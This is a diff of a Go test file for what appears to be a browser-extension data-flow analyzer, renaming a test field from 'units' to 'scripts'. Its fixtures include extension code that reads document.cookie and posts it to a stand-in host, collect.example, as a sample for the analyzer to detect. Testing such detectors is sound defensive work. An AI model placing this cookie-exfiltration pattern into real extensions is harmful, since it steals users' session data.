@@ -163,9 +163,9 @@ func TestFlowsBetweenScripts(t *testing.T) {
 	bg := func(s string) *Script { return testUnit(t, "bg.js", behavior.Background, s) }
 	cs := func(s string) *Script { return testUnit(t, "cs.js", behavior.Content, s) }
 	for _, c := range []struct {
-		name  string
-		units []*Script
-		flows []string
+		name    string
+		scripts []*Script
+		flows   []string
 	}{
 		{"message", []*Script{cs(`chrome.runtime.sendMessage({type: "c", data: document.cookie})`),
 			bg(`chrome.runtime.onMessage.addListener((m, s, r) => { switch (m.type) { case "c": fetch("https://collect.example/", {body: m.data}) } })`)},
@@ -203,7 +203,7 @@ func TestFlowsBetweenScripts(t *testing.T) {
 			[]string{"cookies > fetch > collect.example"}},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			got := flowTexts(analyzeText(t, c.units...))
+			got := flowTexts(analyzeText(t, c.scripts...))
 			if !slices.Equal(got, c.flows) {
 				t.Errorf("flows:\n  got  %s\n  want %s", strings.Join(got, "\n       "), strings.Join(c.flows, "\n       "))
 			}
